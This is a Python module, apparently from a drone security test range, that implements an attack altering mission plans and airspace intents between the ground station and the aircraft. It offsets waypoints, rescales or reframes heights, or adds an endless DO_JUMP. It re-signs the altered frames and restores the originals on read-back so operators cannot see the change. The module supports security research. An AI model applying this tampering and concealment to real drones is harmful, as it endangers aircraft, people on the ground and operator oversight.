"""Malicious plan file: a plan that was altered in the ground station before it is submitted and uploaded.

Approval, upload and read-back agree on the altered plan, and the station signs it. The alteration is made where plans
leave the station: in operational intents and mission items, and back in items that are read. So the station's program
itself keeps the plan of the operator, with the same number of items. No waypoint is altered to one below the ground,
because a station refuses such a plan.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Annotated, Any, Final, Literal

from pydantic import Field, model_validator

from skyrange.attack.approval.approval_links import approval_taps
from skyrange.attack.compromised_sender import SenderStream, without_signature
from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, Place, ThreatModel
from skyrange.attack.exclusive import Exclusive
from skyrange.attack.on_path import TapMaker
from skyrange.attack.telemetry.alteration import put, read_fields, write_fields
from skyrange.attack.victims import Victims
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink import message_id
from skyrange.codec.mavlink.signing import range_passphrase, secret_from_passphrase
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule, TapPlacement
from skyrange.contracts.params import Enu, Number, Params, refuse
from skyrange.contracts.verdicts import Replace, Verdict
from skyrange.core.errors import DecodeError, Problem
from skyrange.core.geodesy import Origin
from skyrange.core.ids import link_name, operator_of
from skyrange.core.time import Epoch, Time
from skyrange.core.volumes import Volume4D
from skyrange.utm.contract import OperationalIntent
from skyrange.utm.messages import Request, decode_request, encode

Form = Literal["offset", "scale", "sea_level", "endless"]
_COUNT: Final = int(mav.MAVLINK_MSG_ID_MISSION_COUNT)
_ITEM: Final = int(mav.MAVLINK_MSG_ID_MISSION_ITEM_INT)
_PLACES: Final = frozenset((
    mav.MAV_CMD_NAV_WAYPOINT, mav.MAV_CMD_NAV_SPLINE_WAYPOINT, mav.MAV_CMD_NAV_LOITER_UNLIM,
    mav.MAV_CMD_NAV_LOITER_TURNS, mav.MAV_CMD_NAV_LOITER_TIME,
))  # fmt: skip
"""Commands with a place in the air."""
_RELATIVE: Final = {
    int(mav.MAV_FRAME_GLOBAL_RELATIVE_ALT): int(mav.MAV_FRAME_GLOBAL),
    int(mav.MAV_FRAME_GLOBAL_RELATIVE_ALT_INT): int(mav.MAV_FRAME_GLOBAL_INT),
}
"""Frames with heights above home, and those with the same number above mean sea level."""
_ALTERED: Final = ("frame", "command", "param1", "param2", "param3", "param4", "x", "y", "z")
_FIRST_JUMP: Final = 2
"""Item that an endless plan goes back to: the first one after home and take-off."""
_FOR_EVER: Final = -1
"""Repetitions of that DO_JUMP (AP_MISSION_JUMP_REPEAT_FOREVER in ArduPilot's AP_Mission.h)."""
_FARTHEST_M: Final = 50_000.0
"""Largest offset: a ground station refuses waypoints farther than 100 km from home."""


class PlanFile(Params):
    """What is altered in the plans. The attack has to begin at 0 s, because plans are loaded then."""

    vehicles: Victims = Field(description="Aircraft whose plans are altered, such as ['blue/b1'].")
    form: Form = Field(
        default="offset",
        description="offset: waypoints are moved; scale: their heights above home are multiplied; sea_level: their "
        "heights above home are declared as heights above mean sea level; endless: the last item is a DO_JUMP back to "
        "the first waypoint, without end.",
    )
    offset_m: Enu = Field(
        default=(0.0, 0.0, 0.0), description="Offset of waypoints, [east_m, north_m, up_m] in metres, for 'offset'."
    )
    factor: Annotated[Number, Field(gt=0, le=20)] = Field(
        default=3.2808, description="Factor of heights, for 'scale'; 3.2808 is a height in feet that is read as metres."
    )

    @model_validator(mode="after")
    def _alters(self) -> PlanFile:
        if max(map(abs, self.offset_m)) > _FARTHEST_M:
            raise refuse(Problem("offset_m", repr(list(self.offset_m)), f"at most {_FARTHEST_M:.0f} m each"))
        if self.form == "offset" and not any(self.offset_m):
            raise refuse(Problem("offset_m", repr(list(self.offset_m)), "an offset that is not zero, for 'offset'"))
        if self.form == "scale" and self.factor == 1:
            raise refuse(Problem("factor", "1", "another factor than 1, for 'scale'"))
        return self


@dataclass(frozen=True, slots=True)
class PlanAlteration:
    """The alteration of one plan, as an item and as a claimed volume."""

    form: Form
    offset_m: Place
    factor: float
    origin: Origin

    def alter_item(self, fields: Any, count: int) -> bool:
        """Write into an item of a mission of `count` items; returns whether it is one that differs."""
        if self.form == "endless":
            return self._jump_back(fields) if fields["seq"] == count - 1 > _FIRST_JUMP else False
        if not fields["seq"] or int(fields["command"]) not in _PLACES:
            return False
        relative = int(fields["frame"]) in _RELATIVE
        if self.form == "offset":
            fields["z"] = max(fields["z"] + self.offset_m[2], 0.0 if relative else self.origin.alt_msl_m)
            if fields["x"] or fields["y"]:
                east, north = self.origin.enu_of(fields["x"] * 1e-7, fields["y"] * 1e-7)
                lat, lon = self.origin.geodetic_of(east + self.offset_m[0], north + self.offset_m[1])
                put(fields, "x", lat * 1e7)
                put(fields, "y", lon * 1e7)
            return True
        if not relative:
            return False
        if self.form == "scale":
            fields["z"] *= self.factor
        else:
            fields["frame"] = _RELATIVE[int(fields["frame"])]
            fields["z"] = max(fields["z"], self.origin.alt_msl_m)
        return True

    def _jump_back(self, fields: Any) -> bool:
        for name in ("param3", "param4", "x", "y", "z"):
            fields[name] = 0
        fields["command"], fields["param1"], fields["param2"] = mav.MAV_CMD_DO_JUMP, _FIRST_JUMP, _FOR_EVER
        return True

    def alter_volume(self, volume: Volume4D) -> Volume4D:
        """The volume that the altered plan claims; that of an endless plan ends as before."""
        if self.form == "endless":
            return volume
        outline = volume.outline
        if self.form == "offset":
            places = [self.origin.enu_of(lat, lon) for lat, lon in outline]
            east, north, _ = self.offset_m
            outline = tuple(self.origin.geodetic_of(x + east, y + north) for x, y in places)
        lower, upper = self._height(volume.lower_m), self._height(volume.upper_m)
        return Volume4D(outline, lower, upper, volume.start_ns, volume.end_ns)

    def _height(self, ellipsoid_m: float) -> float:
        ground_m = self.origin.alt_msl_m + self.origin.geoid_m
        if self.form == "offset":
            return ellipsoid_m + self.offset_m[2]
        if self.form == "scale":
            return ground_m + (ellipsoid_m - ground_m) * self.factor
        return ellipsoid_m - self.origin.alt_msl_m


@dataclass(slots=True)
class UploadTap:
    """Alters the items of uploads, and alters them back when they are read."""

    link: str
    alteration: PlanAlteration
    schedule: Schedule
    sham: bool
    up: SenderStream
    down: SenderStream
    count: int = 0
    originals: dict[int, Any] = field(default_factory=dict)
    """The operator's altered items by number."""

    def on_frame(self, now: Time, frame: Frame) -> Sequence[Verdict]:
        """Alter an item; a sham sends it on as it is."""
        number = message_id(frame.payload)
        if number not in (_COUNT, _ITEM) or not self.schedule.start_ns <= now < self.schedule.stop_ns:
            return ()
        plain = without_signature(frame.payload)
        fields = None if plain is None or number is None else read_fields(plain, number)
        if plain is None or number is None or fields is None:
            return ()
        if fields["mission_type"] != mav.MAV_MISSION_TYPE_MISSION:
            return ()
        upwards = frame.direction == "fwd"
        if number == _COUNT:
            if upwards:
                self.count, self.originals = int(fields["count"]), {}
            return ()
        true = fields.copy()
        if upwards:
            if not self.alteration.alter_item(fields, self.count):
                return ()
            self.originals[int(fields["seq"])] = true
        else:
            original = self.originals.get(int(fields["seq"]))
            if original is None:
                return ()
            for name in _ALTERED:
                fields[name] = original[name]
        length = max(len(true.tobytes().rstrip(b"\0")), len(fields.tobytes().rstrip(b"\0")))
        content = write_fields(plain, number, true if self.sham else fields, length)
        return [Replace((self.up if upwards else self.down).forward(frame.payload, content))]

    def next_wakeup(self) -> Time | None:
        """Never."""
        return None

    def on_wakeup(self, now: Time) -> Sequence[Verdict]:
        """Nothing."""
        return ()


@dataclass(slots=True)
class IntentTap:
    """Alters the intents of some aircraft as their plans are altered."""

    link: str
    vehicles: frozenset[str]
    alteration: PlanAlteration
    epoch: Epoch
    schedule: Schedule
    sham: bool

    def on_frame(self, now: Time, frame: Frame) -> Sequence[Verdict]:
        """Alter an intent; a sham sends it on as it is, both with the same number of bytes."""
        if frame.direction != "fwd" or not self.schedule.start_ns <= now < self.schedule.stop_ns:
            return ()
        try:
            intent = decode_request(frame.payload).intent(self.epoch)
        except DecodeError:
            return ()
        if intent.vehicle not in self.vehicles:
            return ()
        volumes = tuple(self.alteration.alter_volume(volume) for volume in intent.volumes)
        altered = OperationalIntent(intent.id, intent.operator, intent.vehicle, volumes, intent.priority)
        payload = encode(Request.of(altered, self.epoch))
        size = max(len(payload), len(frame.payload))
        return [Replace((frame.payload if self.sham else payload).ljust(size))]  # JSON may end with spaces

    def next_wakeup(self) -> Time | None:
        """Never."""
        return None

    def on_wakeup(self, now: Time) -> Sequence[Verdict]:
        """Nothing."""
        return ()


@dataclass(frozen=True, slots=True)
class _MakeUploadTap:
    alteration: PlanAlteration
    context: AttackContext

    def __call__(self, link: str) -> UploadTap:
        operator = operator_of(link.partition(":")[2])
        secret = secret_from_passphrase(range_passphrase(self.context.chance.seed, operator))
        return UploadTap(
            link, self.alteration, self.context.schedule, self.context.sham, SenderStream(secret), SenderStream(secret)
        )


def make(params: PlanFile, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    alteration = PlanAlteration(params.form, params.offset_m, params.factor, context.origin)
    arguments = (frozenset(params.vehicles), alteration, context.epoch, context.schedule, context.sham)
    taps = approval_taps(params.vehicles, context, TapMaker(IntentTap, arguments))
    maker = _MakeUploadTap(alteration, context)
    taps += [TapPlacement(link_name("gcs", vehicle), "gcs", maker) for vehicle in params.vehicles]
    return Attack(taps=taps, exclusive=[Exclusive(f"plan of {vehicle}") for vehicle in params.vehicles])


PLAN_FILE = AttackPlugin(
    PlanFile,
    make,
    "Alters a plan before the ground station submits and uploads it, so that all agree on the wrong plan.",
    technique="T0873",
    from_start=True,
    surface=("gcs", "approval"),
    persists="flight",
    effect="approver, ground station and autopilot agree on a plan that is not the operator's, and signatures fit it",
    places=(),
    threat=ThreatModel(
        knowledge="the form of plans, and where the operator keeps them",
        position="where the plan is made or stored, before the flight: a shared folder, a mail, a planning tool",
        equipment="write access to the file; no link and no key",
        budget="no frames of its own",
    ),
    controls=Controls(
        load="the sham: the same frames are replaced by copies of themselves",
        content="an offset below the accuracy of positioning, such as 0.1 m",
        placement="the same alteration of another aircraft's plan",
    ),
)
